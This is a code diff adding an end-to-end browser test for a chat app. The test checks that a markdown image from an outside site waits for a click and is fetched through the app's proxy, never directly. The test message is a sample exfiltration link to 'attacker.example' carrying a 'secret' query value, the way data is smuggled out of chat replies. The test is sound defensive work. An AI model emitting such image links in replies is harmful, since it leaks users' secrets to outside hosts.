@@ -53,3 +53,33 @@ for (const colorScheme of ['light', 'dark'] as const) {
     await context.close();
   });
 }
+
+test('an image from another site in a reply waits for a click and then goes through our proxy', async ({
+  page,
+  request,
+}) => {
+  test.setTimeout(90_000);
+  const owner = await registerWithToken(request, 'e2e-markdown-outside-image');
+  const agent = await publishedAgent(request, owner.token);
+  const outside: string[] = [];
+  page.on('request', (call) => {
+    if (new URL(call.url()).hostname === 'attacker.example') outside.push(call.url());
+  });
+  await signIn(page, owner.email);
+  await page.goto(`/chat?agent_key=${agent.agent_key}`);
+
+  const box = page.getByRole('textbox', { name: c.message_label });
+  await box.fill('![chart](https://attacker.example/p.png?secret=s3cr3t)');
+  await box.press('Enter');
+  const reply = page.locator('.chat-markdown').last();
+  const placeholder = reply.getByRole('button', { name: /attacker\.example/ });
+  await expect(placeholder).toBeVisible();
+  await expect(reply.locator('img')).toHaveCount(0);
+
+  const proxied = page.waitForResponse((response) => response.url().includes('/api/chat/image-proxy?url='));
+  await placeholder.click();
+  // The made-up site cannot be reached from here: the proxy says so and the reader can open the original.
+  expect((await proxied).status()).toBeGreaterThanOrEqual(400);
+  await expect(reply.getByText(c.outside_image_failed)).toBeVisible();
+  expect(outside).toEqual([]);
+});
